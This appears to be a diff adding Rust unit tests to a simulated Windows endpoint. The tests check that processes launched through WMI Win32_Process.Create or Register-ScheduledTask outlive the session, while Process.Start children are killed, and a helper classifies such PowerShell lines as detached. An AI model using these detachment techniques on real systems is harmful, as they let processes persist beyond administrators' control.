+    fn a_plainly_started_process_dies_with_the_session_a_detached_one_survives() {
+        let mut e = Endpoint::new("mde-0001", 16, Family::Windows);
+        // The execute helper as it was: `Process.Start`, the process a child of the script.
+        let child = execute(&mut e, b"$proc = [System.Diagnostics.Process]::Start($psi)\n");
+        // Today's helper: `Win32_Process.Create`.
+        let detached = execute(&mut e, Helper::Execute.source().as_bytes());
+        assert!(e.processes.contains_key(&child) && e.processes.contains_key(&detached));
+        e.end_session();
+        assert!(!e.processes.contains_key(&child), "the session's job took it down");
+        assert_eq!(e.processes.get(&detached).map(|p| p.ppid), Some(WMI_PROVIDER_HOST));
+        // A second session end changes nothing.
+        e.end_session();
+        assert!(e.processes.contains_key(&detached));
+    }
+
+    #[test]
+    fn detached_means_wmi_or_a_scheduled_task() {
+        let wmi = b"Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments $a";
+        assert!(starts_detached(wmi));
+        assert!(starts_detached(b"Register-ScheduledTask -TaskName x -Action $a"));
+        assert!(!starts_detached(b"Start-Process -FilePath notepad.exe"));
+        assert!(!starts_detached(b"[System.Diagnostics.Process]::Start($psi)"));
+    }
 }
